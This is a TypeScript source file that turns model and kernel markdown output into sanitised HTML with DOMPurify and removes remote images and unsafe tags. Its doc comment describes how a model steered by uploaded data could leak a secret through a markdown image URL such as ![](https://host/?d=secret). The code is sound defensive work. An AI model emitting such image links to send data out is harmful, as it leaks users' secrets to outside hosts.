import DOMPurify from "dompurify";
import { marked } from "marked";

/**
 * Markdown from models and kernels → sanitised HTML for our own origin. DOMPurify drops script, event
 * handlers and javascript: URLs; remote images are removed here too (a model steered by uploaded data
 * could exfiltrate through `![](https://host/?d=secret)`; the CSP's img-src blocks them as well).
 */
export function renderMarkdown(source: string): string {
  const html = marked.parse(source, { async: false, gfm: true, breaks: false });
  const purify = DOMPurify();
  purify.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "IMG") {
      const src = node.getAttribute("src") ?? "";
      if (!/^data:image\/(png|jpeg|gif|webp);/i.test(src)) node.remove();
    }
    if (node.tagName === "A") {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer nofollow");
    }
  });
  return purify.sanitize(html, { USE_PROFILES: { html: true }, FORBID_TAGS: ["style", "form", "input", "button", "iframe"] });
}
